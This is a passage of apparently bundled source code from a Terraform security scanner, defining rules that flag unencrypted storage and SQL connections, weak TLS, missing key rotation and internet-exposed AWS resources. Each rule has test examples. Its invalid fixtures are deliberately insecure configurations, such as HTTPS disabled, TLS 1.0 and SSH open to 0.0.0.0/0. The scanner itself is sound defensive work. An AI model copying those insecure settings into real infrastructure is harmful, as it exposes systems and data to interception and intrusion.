    title: "Storage account accepts plain HTTP (secure transfer / HTTPS only disabled)",
    severity: "high",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["azurerm_storage_account"],
    description: "With secure transfer turned off the account serves its REST endpoints over unencrypted HTTP, so data, shared keys in headers and SAS tokens in URLs can be read or altered by anyone on the network path.",
    remediation: "Remove the setting or set `https_traffic_only_enabled = true` (`enable_https_traffic_only = true` before azurerm 4.0).",
    precision: "very-high",
    cwe: ["CWE-319"],
    frameworks: { "CIS Microsoft Azure Foundations 2.0": ["3.1"] },
    tags: ["azure", "storage", "https", "encryption-in-transit"],
    references: [
      "https://learn.microsoft.com/azure/storage/common/storage-require-secure-transfer",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/storage_account#https_traffic_only_enabled"
    ]
  },
  check(account, { report }) {
    for (const attribute of HTTPS_ONLY_ATTRIBUTES) {
      if (account.attributes[attribute] === false) {
        report({ at: [attribute], message: `Storage account ${account.name} accepts unencrypted HTTP: HTTPS only is disabled (${attribute} = false)` });
      }
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_storage_account" "assets" {
  name                       = "contosoassets"
  resource_group_name        = "rg-web"
  location                   = "westeurope"
  account_tier               = "Standard"
  account_replication_type   = "LRS"
  https_traffic_only_enabled = true
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_storage_account" "assets" {
  name                      = "contosoassets"
  resource_group_name       = "rg-web"
  location                  = "westeurope"
  account_tier              = "Standard"
  account_replication_type  = "LRS"
  enable_https_traffic_only = false
}
`,
        errors: [{ line: 7, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/azure-storage-minimum-tls-version.ts
var azure_storage_minimum_tls_version_default = defineRule({
  meta: {
    id: "azure-storage-minimum-tls-version",
    title: "Storage account minimum TLS version below 1.2",
    severity: "medium",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["azurerm_storage_account"],
    description: "The account accepts TLS 1.0 or 1.1, protocol versions with known weaknesses that Azure is retiring. When `min_tls_version` is not set, azurerm provider versions before 3.0 create the account with TLS 1.0 allowed, and the setting in force is not visible in code.",
    remediation: 'Set `min_tls_version = "TLS1_2"` on the storage account.',
    precision: "high",
    cwe: ["CWE-326"],
    tags: ["azure", "storage", "tls", "encryption-in-transit"],
    references: [
      "https://learn.microsoft.com/azure/storage/common/transport-layer-security-configure-minimum-version",
      "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/storage_account#min_tls_version"
    ]
  },
  check(account, { report }) {
    const version = account.attributes.min_tls_version;
    if (version === void 0) {
      report({ message: `Storage account ${account.name} does not set a minimum TLS version (min_tls_version); older azurerm providers default to TLS1_0` });
    } else if (!isUnknown(version) && allowsTlsBelow12(version)) {
      report({ at: ["min_tls_version"], message: `Storage account ${account.name} accepts TLS versions below 1.2 (min_tls_version = "${String(version)}")` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_storage_account" "logs" {
  name                     = "contosologs"
  resource_group_name      = "rg-logs"
  location                 = "northeurope"
  account_tier             = "Standard"
  account_replication_type = "LRS"
  min_tls_version          = "TLS1_2"
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "azurerm_storage_account" "logs" {
  name                     = "contosologs"
  resource_group_name      = "rg-logs"
  location                 = "northeurope"
  account_tier             = "Standard"
  account_replication_type = "LRS"
  min_tls_version          = "TLS1_0"
}
`,
        errors: [{ line: 7, column: 3 }]
      },
      {
        name: "not set",
        filename: "main.tf",
        code: `resource "azurerm_storage_account" "logs" {
  name                     = "contosologs"
  resource_group_name      = "rg-logs"
  location                 = "northeurope"
  account_tier             = "Standard"
  account_replication_type = "LRS"
}
`,
        errors: [{ line: 1, column: 1 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/gcp-compute-disk-cmek.ts
var gcp_compute_disk_cmek_default = defineRule({
  meta: {
    id: "gcp-compute-disk-cmek",
    title: "Persistent disk not encrypted with a customer-managed key (CMEK/CSEK)",
    severity: "low",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["google_compute_disk", "google_compute_region_disk"],
    description: "The disk relies on Google-managed encryption keys only. Its data is encrypted at rest, but you cannot revoke or audit the key, so deleting or disabling access to the data rests entirely with IAM on the disk and its snapshots.",
    remediation: "Set `disk_encryption_key { kms_key_self_link = google_kms_crypto_key.disks.id }` (CMEK) or a customer-supplied key (`raw_key` / `rsa_encrypted_key`) for disks holding sensitive data.",
    precision: "medium",
    cwe: ["CWE-311"],
    frameworks: { "CIS Google Cloud Platform Foundation 2.0": ["4.7"] },
    tags: ["gcp", "compute", "disk", "encryption-at-rest", "cmek"],
    references: [
      "https://cloud.google.com/compute/docs/disks/customer-managed-encryption",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/compute_disk#disk_encryption_key"
    ]
  },
  check(disk, { report }) {
    const keys = disk.attributes.disk_encryption_key;
    if (isUnknown(keys)) return;
    if (asList(keys).length > 0) return;
    if (disk.attributes.source_image_encryption_key !== void 0 || disk.attributes.source_snapshot_encryption_key !== void 0) return;
    report({ message: `Disk ${disk.name} is not encrypted with a customer-managed key (no disk_encryption_key; Google-managed encryption only)` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "google_compute_disk" "ledger" {
  name = "ledger-data"
  type = "pd-ssd"
  zone = "europe-west1-b"
  size = 200

  disk_encryption_key {
    kms_key_self_link = google_kms_crypto_key.disks.id
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "google_compute_disk" "ledger" {
  name = "ledger-data"
  type = "pd-ssd"
  zone = "europe-west1-b"
  size = 200
}
`,
        errors: [{ line: 1, column: 1 }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/gcp-kms-key-rotation.ts
var NINETY_DAYS = 90 * 24 * 60 * 60;
var ROTATABLE_PURPOSES = /* @__PURE__ */ new Set(["ENCRYPT_DECRYPT"]);
var gcp_kms_key_rotation_default = defineRule({
  meta: {
    id: "gcp-kms-key-rotation",
    title: "Cloud KMS key without automatic key rotation within 90 days",
    severity: "medium",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["google_kms_crypto_key"],
    description: "The symmetric key has no `rotation_period`, or one longer than 90 days. Without rotation a single key version protects an ever-growing amount of data, and a compromised version stays useful to an attacker indefinitely.",
    remediation: 'Set `rotation_period = "7776000s"` (90 days) or shorter on the crypto key.',
    precision: "very-high",
    cwe: ["CWE-324"],
    frameworks: { "CIS Google Cloud Platform Foundation 2.0": ["1.10"] },
    tags: ["gcp", "kms", "key-rotation", "key-management"],
    references: [
      "https://cloud.google.com/kms/docs/key-rotation",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/kms_crypto_key#rotation_period"
    ]
  },
  check(key, { report }) {
    const purpose = key.attributes.purpose ?? "ENCRYPT_DECRYPT";
    if (typeof purpose !== "string" || !ROTATABLE_PURPOSES.has(purpose)) return;
    const period = key.attributes.rotation_period;
    if (period === void 0 || period === null) {
      report({ message: `KMS key ${key.name} has no automatic key rotation (rotation_period is not set)` });
      return;
    }
    if (isUnknown(period)) return;
    const seconds = durationSeconds(period);
    if (seconds !== void 0 && seconds > NINETY_DAYS) {
      report({ at: ["rotation_period"], message: `KMS key ${key.name} key rotation period is longer than 90 days (${String(period)} is ${Math.round(seconds / 86400)} days)` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "google_kms_crypto_key" "backups" {
  name            = "backups"
  key_ring        = google_kms_key_ring.main.id
  rotation_period = "7776000s"
}
`
      },
      {
        name: "asymmetric signing key",
        filename: "main.tf",
        code: `resource "google_kms_crypto_key" "signing" {
  name     = "release-signing"
  key_ring = google_kms_key_ring.main.id
  purpose  = "ASYMMETRIC_SIGN"

  version_template {
    algorithm = "EC_SIGN_P256_SHA256"
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "google_kms_crypto_key" "backups" {
  name     = "backups"
  key_ring = google_kms_key_ring.main.id
}
`,
        errors: [{ line: 1, column: 1 }]
      },
      {
        filename: "main.tf",
        code: `resource "google_kms_crypto_key" "backups" {
  name            = "backups"
  key_ring        = google_kms_key_ring.main.id
  rotation_period = "31536000s"
}
`,
        errors: [{ line: 4, column: 3, messageIncludes: "365 days" }]
      }
    ]
  }
});

// packages/rules/src/terraform/encryption/gcp-sql-ssl-not-required.ts
var ENCRYPTED_MODES = /* @__PURE__ */ new Set(["ENCRYPTED_ONLY", "TRUSTED_CLIENT_CERTIFICATE_REQUIRED"]);
var gcp_sql_ssl_not_required_default = defineRule({
  meta: {
    id: "gcp-sql-ssl-not-required",
    title: "Cloud SQL instance does not require SSL/TLS connections",
    severity: "medium",
    category: "encryption",
    platforms: ["terraform"],
    resourceTypes: ["google_sql_database_instance"],
    description: 'Neither `ssl_mode = "ENCRYPTED_ONLY"` (or `TRUSTED_CLIENT_CERTIFICATE_REQUIRED`) nor `require_ssl = true` is set, so clients may connect without encryption and credentials and query results can cross the network in plain text.',
    remediation: 'Set `ssl_mode = "ENCRYPTED_ONLY"` (or `TRUSTED_CLIENT_CERTIFICATE_REQUIRED`) in `settings.ip_configuration`; on older providers set `require_ssl = true`.',
    precision: "high",
    cwe: ["CWE-319"],
    frameworks: { "CIS Google Cloud Platform Foundation 2.0": ["6.4"] },
    tags: ["gcp", "cloud-sql", "ssl", "tls", "encryption-in-transit"],
    references: [
      "https://cloud.google.com/sql/docs/postgres/configure-ssl-instance",
      "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/sql_database_instance#ssl_mode"
    ]
  },
  check(instance, { report }) {
    const ip = sqlIpConfiguration(instance);
    if (ip === "unknown") return;
    if (ip === "missing") {
      if (instance.attributes.settings === void 0) return;
      report({ at: ["settings", 0], message: `Cloud SQL instance ${instance.name} does not require SSL: unencrypted connections are accepted (no ssl_mode or require_ssl)` });
      return;
    }
    const { require_ssl: requireSsl } = ip.config;
    const mode = ip.config.ssl_mode === "" || ip.config.ssl_mode === null ? void 0 : ip.config.ssl_mode;
    if (isUnknown(mode) || isUnknown(requireSsl)) return;
    if (typeof mode === "string" && ENCRYPTED_MODES.has(mode)) return;
    if (mode === void 0 && requireSsl === true) return;
    if (typeof mode === "string") {
      report({ at: [...ip.at, "ssl_mode"], message: `Cloud SQL instance ${instance.name} accepts unencrypted connections (ssl_mode = "${mode}")` });
    } else if (requireSsl === false) {
      report({ at: [...ip.at, "require_ssl"], message: `Cloud SQL instance ${instance.name} does not require SSL: unencrypted connections are accepted (require_ssl = false)` });
    } else {
      report({ at: ip.at, message: `Cloud SQL instance ${instance.name} does not require SSL: unencrypted connections are accepted (no ssl_mode or require_ssl)` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "google_sql_database_instance" "users" {
  name             = "users-pg"
  database_version = "POSTGRES_15"
  region           = "europe-west1"

  settings {
    tier = "db-custom-2-7680"
    ip_configuration {
      ipv4_enabled    = false
      private_network = google_compute_network.main.id
      ssl_mode        = "TRUSTED_CLIENT_CERTIFICATE_REQUIRED"
    }
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "google_sql_database_instance" "users" {
  name             = "users-pg"
  database_version = "POSTGRES_15"
  region           = "europe-west1"

  settings {
    tier = "db-custom-2-7680"
    ip_configuration {
      ipv4_enabled    = false
      private_network = google_compute_network.main.id
    }
  }
}
`,
        errors: [{ line: 8, column: 5 }]
      },
      {
        filename: "main.tf",
        code: `resource "google_sql_database_instance" "users" {
  name             = "users-pg"
  database_version = "POSTGRES_15"
  region           = "europe-west1"

  settings {
    tier = "db-custom-2-7680"
    ip_configuration {
      ipv4_enabled    = false
      private_network = google_compute_network.main.id
      require_ssl     = false
    }
  }
}
`,
        errors: [{ line: 11, column: 7 }]
      }
    ]
  }
});

// packages/rules/src/terraform/networking/aws-default-security-group-allows-traffic.ts
var aws_default_security_group_allows_traffic_default = defineRule({
  meta: {
    id: "aws-default-security-group-allows-traffic",
    title: "Default security group of the VPC allows traffic",
    severity: "low",
    category: "networking",
    platforms: ["terraform"],
    resourceTypes: ["aws_default_security_group"],
    description: "The VPC's default security group declares ingress or egress rules. Resources launched without an explicit security group land in it silently, so any rule here grants them network access nobody chose.",
    remediation: "Declare `aws_default_security_group` with no `ingress` or `egress` blocks so it denies all traffic, and attach purpose-built security groups to every resource.",
    precision: "high",
    cwe: ["CWE-284"],
    frameworks: { "CIS AWS Foundations 3.0": ["5.4"] },
    tags: ["security-group", "vpc", "network-exposure"],
    references: [
      "https://docs.aws.amazon.com/vpc/latest/userguide/default-security-group.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/default_security_group"
    ]
  },
  check(group, { report }) {
    for (const direction of ["ingress", "egress"]) {
      const first = blocksOf(group.attributes, direction)?.[0];
      if (!first) continue;
      report({ at: first.at, message: `Default security group ${group.name} is not restricted: it allows ${direction} traffic` });
      return;
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_default_security_group" "default" {
  vpc_id = aws_vpc.main.id
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_default_security_group" "default" {
  vpc_id = aws_vpc.main.id

  ingress {
    protocol  = -1
    self      = true
    from_port = 0
    to_port   = 0
  }

  egress {
    from_port   = 0
    to_port     = 0
    protocol    = "-1"
    cidr_blocks = ["0.0.0.0/0"]
  }
}
`,
        errors: [{ line: 4, column: 3, messageIncludes: "ingress" }]
      }
    ]
  }
});

// packages/rules/src/terraform/networking/aws-dms-replication-instance-public.ts
var aws_dms_replication_instance_public_default = defineRule({
  meta: {
    id: "aws-dms-replication-instance-public",
    title: "DMS replication instance is publicly accessible",
    severity: "high",
    category: "networking",
    platforms: ["terraform"],
    resourceTypes: ["aws_dms_replication_instance"],
    description: "The replication instance gets a public IP address, either because `publicly_accessible = true` or because the setting is left out and DMS defaults to public. The instance holds credentials for both source and target databases and streams their data.",
    remediation: "Set `publicly_accessible = false` and connect the instance to its endpoints through private subnets, VPC peering or a VPN.",
    precision: "high",
    cwe: ["CWE-284"],
    tags: ["dms", "network-exposure"],
    references: [
      "https://docs.aws.amazon.com/dms/latest/userguide/CHAP_ReplicationInstance.PublicPrivate.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/dms_replication_instance#publicly_accessible"
    ]
  },
  check(instance, { report }) {
    const value = instance.attributes.publicly_accessible;
    if (isTrue(value)) {
      report({ at: ["publicly_accessible"], message: `DMS replication instance ${instance.name} is publicly accessible (publicly_accessible = true)` });
    } else if (value === void 0 || value === null) {
      report({ message: `DMS replication instance ${instance.name} does not set publicly_accessible = false, and DMS makes it publicly accessible by default` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_dms_replication_instance" "migration" {
  replication_instance_id     = "orders-migration"
  replication_instance_class  = "dms.t3.medium"
  replication_subnet_group_id = aws_dms_replication_subnet_group.private.id
  publicly_accessible         = false
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_dms_replication_instance" "migration" {
  replication_instance_id    = "orders-migration"
  replication_instance_class = "dms.t3.medium"
  publicly_accessible        = true
}
`,
        errors: [{ line: 4, column: 3 }]
      },
      {
        name: "left to the public default",
        filename: "main.tf",
        code: `resource "aws_dms_replication_instance" "migration" {
  replication_instance_id    = "orders-migration"
  replication_instance_class = "dms.t3.medium"
}
`,
        errors: [{ line: 1, column: 1 }]
      }
    ]
  }
});

// packages/rules/src/terraform/networking/aws-ec2-instance-public-ip.ts
var aws_ec2_instance_public_ip_default = defineRule({
  meta: {
    id: "aws-ec2-instance-public-ip",
    title: "EC2 instance is given a public IP address",
    severity: "low",
    category: "networking",
    platforms: ["terraform"],
    resourceTypes: ["aws_instance"],
    description: "`associate_public_ip_address = true` puts the instance directly on the internet. Its security groups become the only barrier, and a single rule widened by mistake exposes it; most workloads are better served behind a load balancer or NAT gateway.",
    remediation: "Set `associate_public_ip_address = false`, place the instance in a private subnet, and publish it through a load balancer; use Session Manager instead of SSH for administration.",
    precision: "medium",
    cwe: ["CWE-284"],
    tags: ["ec2", "public-ip", "network-exposure"],
    references: [
      "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/using-instance-addressing.html#concepts-public-addresses",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/instance#associate_public_ip_address"
    ]
  },
  check(instance, { report }) {
    if (isTrue(instance.attributes.associate_public_ip_address)) {
      report({ at: ["associate_public_ip_address"], message: `EC2 instance ${instance.name} has a public IP address (associate_public_ip_address = true)` });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_instance" "worker" {
  ami                         = data.aws_ami.al2023.id
  instance_type               = "t3.small"
  subnet_id                   = aws_subnet.private.id
  associate_public_ip_address = false
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_instance" "worker" {
  ami                         = data.aws_ami.al2023.id
  instance_type               = "t3.small"
  subnet_id                   = aws_subnet.public.id
  associate_public_ip_address = true
}
`,
        errors: [{ line: 5, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/terraform/networking/aws-eks-public-endpoint.ts
var aws_eks_public_endpoint_default = defineRule({
  meta: {
    id: "aws-eks-public-endpoint",
    title: "EKS cluster API endpoint is publicly accessible from 0.0.0.0/0",
    severity: "medium",
    category: "networking",
    platforms: ["terraform"],
    resourceTypes: ["aws_eks_cluster"],
    description: "The Kubernetes API server has a public endpoint (the default) and `public_access_cidrs` is left open to `0.0.0.0/0`. Anyone on the internet can reach the API to probe it, try stolen credentials or exploit an API server vulnerability.",
    remediation: "Set `endpoint_public_access = false` and `endpoint_private_access = true`, or restrict `public_access_cidrs` to the networks of your administrators and CI.",
    precision: "high",
    cwe: ["CWE-284"],
    tags: ["eks", "kubernetes", "network-exposure"],
    references: [
      "https://docs.aws.amazon.com/eks/latest/userguide/cluster-endpoint.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/eks_cluster#public_access_cidrs"
    ]
  },
  check(cluster, { report }) {
    const config = singleBlock(cluster.attributes, "vpc_config");
    if (!config || config === "unknown") return;
    const publicAccess = config.block.endpoint_public_access;
    if (isFalse(publicAccess) || isUnknown(publicAccess)) return;
    const cidrs = config.block.public_access_cidrs;
    if (isUnknown(cidrs)) {
      if (publicAccess === true) report({ at: [...config.at, "endpoint_public_access"], message: `EKS cluster ${cluster.name} API endpoint is publicly accessible (endpoint_public_access = true); its allowed CIDRs are not known statically` });
      return;
    }
    if (Array.isArray(cidrs) && cidrs.length > 0) {
      const index = cidrs.findIndex((cidr) => isInternetCidr(cidr));
      if (index < 0) return;
      report({ at: [...config.at, "public_access_cidrs", index], message: `EKS cluster ${cluster.name} API endpoint is public and open to ${String(cidrs[index])}` });
      return;
    }
    const at = publicAccess === void 0 || publicAccess === null ? config.at : [...config.at, "endpoint_public_access"];
    report({ at, message: `EKS cluster ${cluster.name} API endpoint is publicly accessible from 0.0.0.0/0 (no public_access_cidrs)` });
  },
  examples: {
    valid: [
      {
        name: "private endpoint only",
        filename: "main.tf",
        code: `resource "aws_eks_cluster" "platform" {
  name     = "platform"
  role_arn = aws_iam_role.eks.arn

  vpc_config {
    subnet_ids              = aws_subnet.private[*].id
    endpoint_private_access = true
    endpoint_public_access  = false
  }
}
`
      },
      {
        name: "public endpoint limited to the office",
        filename: "main.tf",
        code: `resource "aws_eks_cluster" "platform" {
  name     = "platform"
  role_arn = aws_iam_role.eks.arn

  vpc_config {
    subnet_ids          = aws_subnet.private[*].id
    public_access_cidrs = ["203.0.113.0/24"]
  }
}
`
      }
    ],
    invalid: [
      {
        name: "public by default",
        filename: "main.tf",
        code: `resource "aws_eks_cluster" "platform" {
  name     = "platform"
  role_arn = aws_iam_role.eks.arn

  vpc_config {
    subnet_ids              = aws_subnet.private[*].id
    endpoint_private_access = true
  }
}
`,
        errors: [{ line: 5, column: 3 }]
      },
      {
        name: "explicitly open to the world",
        filename: "main.tf",
        code: `resource "aws_eks_cluster" "platform" {
  name     = "platform"
  role_arn = aws_iam_role.eks.arn

  vpc_config {
    subnet_ids             = aws_subnet.private[*].id
    endpoint_public_access = true
    public_access_cidrs    = ["0.0.0.0/0"]
  }
}
`,
        errors: [{ line: 8, column: 31 }]
      },
      {
        name: "explicitly public, sources from a variable",
        filename: "main.tf",
        code: `resource "aws_eks_cluster" "platform" {
  name     = "platform"
  role_arn = aws_iam_role.eks.arn

  vpc_config {
    subnet_ids             = aws_subnet.private[*].id
    endpoint_public_access = true
    public_access_cidrs    = var.api_sources
  }
}
`,
        errors: [{ line: 7, column: 5, messageIncludes: "not known statically" }]
      }
    ]
  }
});

// packages/rules/src/support/security-group.ts
function openIngressOf(resource) {
  const attributes = resource.attributes;
  switch (resource.type) {
    case "aws_security_group":
      return asList(attributes.ingress).flatMap((rule, index) => isObject(rule) ? fromRule(rule, ["ingress", index]) : []);
    case "aws_security_group_rule":
      return attributes.type === "ingress" ? fromRule(attributes, []) : [];
    case "aws_vpc_security_group_ingress_rule": {
      const open = [];
      const allProtocols = isAllProtocols(attributes.ip_protocol);
      const from = allProtocols ? 0 : attributes.from_port;
      const to = allProtocols ? 65535 : attributes.to_port;
      if (typeof from !== "number" || typeof to !== "number") return [];
      for (const key of ["cidr_ipv4", "cidr_ipv6"]) {
        if (isInternetCidr(attributes[key])) open.push({ at: [key], cidr: attributes[key], from, to, allProtocols });
      }
      return open;
    }
    default:
      return [];
  }
}
function fromRule(rule, base) {
  const allProtocols = isAllProtocols(rule.protocol);
  const from = allProtocols ? 0 : rule.from_port;
  const to = allProtocols ? 65535 : rule.to_port;
  if (typeof from !== "number" || typeof to !== "number") return [];
  const open = [];
  for (const key of ["cidr_blocks", "ipv6_cidr_blocks"]) {
    const cidrs = rule[key];
    if (!Array.isArray(cidrs)) continue;
    cidrs.forEach((cidr, index) => {
      if (isInternetCidr(cidr)) open.push({ at: [...base, key, index], cidr, from, to, allProtocols });
    });
  }
  return open;
}
var SECURITY_GROUP_TYPES = ["aws_security_group", "aws_security_group_rule", "aws_vpc_security_group_ingress_rule"];

// packages/rules/src/terraform/networking/aws-instance-public-ip-sensitive-port-open.ts
var GROUP_RULE_TYPES = ["aws_security_group_rule", "aws_vpc_security_group_ingress_rule"];
var aws_instance_public_ip_sensitive_port_open_default = defineRule({
  meta: {
    id: "aws-instance-public-ip-sensitive-port-open",
    title: "EC2 instance with a public IP reachable from the internet on an administration or database port",
    severity: "high",
    category: "networking",
    platforms: ["terraform"],
    resourceTypes: ["aws_instance"],
    description: "The instance gets a public IP address (`associate_public_ip_address = true`, or a subnet with `map_public_ip_on_launch = true`) and one of its security groups lets `0.0.0.0/0` or `::/0` reach SSH, RDP, a database or every port. The instance itself, not just a rule on paper, is then exposed to the scanning and brute-forcing that starts minutes after an address goes live.",
    remediation: "Keep the instance in a private subnet without a public IP and reach it through AWS Systems Manager Session Manager, a bastion or a VPN; or restrict the security group's ingress to known networks.",
    precision: "high",
    cwe: ["CWE-284"],
    frameworks: { "CIS AWS Foundations 3.0": ["5.2", "5.3"] },
    tags: ["ec2", "security-group", "network-exposure"],
    references: ["https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/using-instance-addressing.html"]
  },
  check(instance, { graph, report }) {
    const publicAddress = publicAddressOf(graph, instance);
    if (!publicAddress) return;
    const reachable = reachablePorts(graph, instance);
    if (reachable.length === 0) return;
    const ports = [...new Set(reachable.map((item) => item.ports))].join(", ");
    report({
      at: publicAddress.at,
      message: `${instance.name} has a public IP ${publicAddress.why} and its security groups open ${ports} to the internet`,
      related: [
        ...publicAddress.subnet ? [{ resource: publicAddress.subnet.id, at: ["map_public_ip_on_launch"], message: `${publicAddress.subnet.name} gives instances public IPs` }] : [],
        ...reachable.map((item) => ({ resource: item.rule.id, at: item.open.at, message: `${item.rule.name} allows ${item.open.cidr} to reach ${item.ports}` }))
      ]
    });
  },
  examples: {
    valid: [
      {
        name: "SSH open, but no public IP",
        filename: "main.tf",
        code: `resource "aws_security_group" "admin" {
  ingress {
    from_port   = 22
    to_port     = 22
    protocol    = "tcp"
    cidr_blocks = ["0.0.0.0/0"]
  }
}

resource "aws_instance" "worker" {
  ami                         = "ami-0c55b159cbfafe1f0"
  instance_type               = "t3.micro"
  associate_public_ip_address = false
  vpc_security_group_ids      = [aws_security_group.admin.id]
}
`
      },
      {
        name: "public IP, only HTTPS from the internet",
        filename: "main.tf",
        code: `resource "aws_security_group" "web" {
  ingress {
    from_port   = 443
    to_port     = 443
    protocol    = "tcp"
    cidr_blocks = ["0.0.0.0/0"]
  }
}

resource "aws_instance" "web" {
  ami                         = "ami-0c55b159cbfafe1f0"
  instance_type               = "t3.micro"
  associate_public_ip_address = true
  vpc_security_group_ids      = [aws_security_group.web.id]
}
`
      }
    ],
    invalid: [
      {
        name: "public IP and an inline SSH rule",
        filename: "main.tf",
        code: `resource "aws_security_group" "admin" {
  ingress {
    from_port   = 22
    to_port     = 22
    protocol    = "tcp"
    cidr_blocks = ["0.0.0.0/0"]
  }
}

resource "aws_instance" "bastion" {
  ami                         = "ami-0c55b159cbfafe1f0"
  instance_type               = "t3.micro"
  associate_public_ip_address = true
  vpc_security_group_ids      = [aws_security_group.admin.id]
}
`,
        errors: [{ line: 13, column: 3, messageIncludes: "22 (SSH)" }]
      },
      {
        name: "public subnet and a separate rule opening every port, across files",
        filename: "instance.tf",
        code: `resource "aws_instance" "db" {
  ami                    = "ami-0c55b159cbfafe1f0"
  instance_type          = "t3.micro"
  subnet_id              = aws_subnet.public.id
  vpc_security_group_ids = [aws_security_group.db.id]
}
`,
        extraFiles: {
          "network.tf": `resource "aws_subnet" "public" {
  vpc_id                  = aws_vpc.main.id
  cidr_block              = "10.0.1.0/24"
  map_public_ip_on_launch = true
}

resource "aws_security_group" "db" {
  vpc_id = aws_vpc.main.id
}

resource "aws_vpc_security_group_ingress_rule" "db_all" {
  security_group_id = aws_security_group.db.id
  cidr_ipv4         = "0.0.0.0/0"
  ip_protocol       = "-1"
}
`
        },
        errors: [{ file: "instance.tf", line: 4, column: 3, messageIncludes: "every port" }]
      }
    ]
  }
});
function publicAddressOf(graph, instance) {
  const own = instance.attributes.associate_public_ip_address;
  if (own === true) return { at: ["associate_public_ip_address"], why: "(associate_public_ip_address)" };
  if (own !== void 0 && own !== null) return void 0;
  const subnet = referencedThrough(graph, instance, ["subnet_id"]).find((target) => target.type === "aws_subnet" && target.attributes.map_public_ip_on_launch === true);
  return subnet ? { at: ["subnet_id"], why: `from ${subnet.name}`, subnet } : void 0;
}
function reachablePorts(graph, instance) {
  const groups = [...referencedThrough(graph, instance, ["vpc_security_group_ids"]), ...referencedThrough(graph, instance, ["security_groups"])].filter(
    (target) => target.type === "aws_security_group"
  );
  const reachable = [];
  for (const group of new Set(groups)) {
    const separate = graph.edgesTo(group.id, "references").filter((edge) => edge.via?.[0] === "security_group_id").map((edge) => graph.get(edge.from)).filter((rule) => rule !== void 0 && GROUP_RULE_TYPES.includes(rule.type));
    const rules = [group, ...separate];
    for (const rule of rules) {
      for (const open of openIngressOf(rule)) {
        const ports = describePorts(open);
        if (ports) reachable.push({ group, rule, open, ports });
      }
    }
  }
  return reachable;
}
function describePorts(open) {
  if (open.allProtocols || open.from <= 0 && open.to >= 65535) return "every port";
  const sensitive = sensitivePortsIn(open.from, open.to);
  return sensitive.length > 0 ? sensitive.map(({ port, name }) => `${port} (${name})`).join(", ") : void 0;
}

// packages/rules/src/terraform/networking/aws-launch-template-public-ip.ts
var aws_launch_template_public_ip_default = defineRule({
  meta: {
    id: "aws-launch-template-public-ip",
    title: "Launch template or configuration gives instances a public IP",
    severity: "low",
    category: "networking",
    platforms: ["terraform"],
    resourceTypes: ["aws_launch_template", "aws_launch_configuration"],
    description: "Every instance launched from this template (typically a whole Auto Scaling group) gets a public IP address and is directly reachable from the internet, guarded only by its security groups.",
    remediation: "Set `associate_public_ip_address = false` (in `network_interfaces` for a launch template), launch into private subnets, and put a load balancer in front.",
    precision: "medium",
    cwe: ["CWE-284"],
    tags: ["ec2", "autoscaling", "public-ip", "network-exposure"],
    references: [
      "https://docs.aws.amazon.com/autoscaling/ec2/userguide/create-launch-template.html#change-network-interface",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/launch_template#associate_public_ip_address"
    ]
  },
  check(template, { report }) {
    const kind = template.type === "aws_launch_template" ? "Launch template" : "Launch configuration";
    if (template.type === "aws_launch_configuration") {
      if (isTrue(template.attributes.associate_public_ip_address)) {
        report({ at: ["associate_public_ip_address"], message: `${kind} ${template.name} gives every instance a public IP address` });
      }
      return;
    }
    for (const { block, at } of blocksOf(template.attributes, "network_interfaces") ?? []) {
      if (isTrue(block.associate_public_ip_address)) {
        report({ at: [...at, "associate_public_ip_address"], message: `${kind} ${template.name} gives every instance a public IP address` });
      }
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_launch_template" "workers" {
  name_prefix = "workers-"
  image_id    = data.aws_ami.al2023.id

  network_interfaces {
    associate_public_ip_address = false
    security_groups             = [aws_security_group.workers.id]
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_launch_template" "workers" {
  name_prefix = "workers-"
  image_id    = data.aws_ami.al2023.id

  network_interfaces {
    associate_public_ip_address = "true"
    security_groups             = [aws_security_group.workers.id]
  }
}
`,
        errors: [{ line: 6, column: 5 }]
      },
      {
        name: "launch configuration",
        filename: "main.tf",
        code: `resource "aws_launch_configuration" "workers" {
  image_id                    = data.aws_ami.al2023.id
  instance_type               = "t3.small"
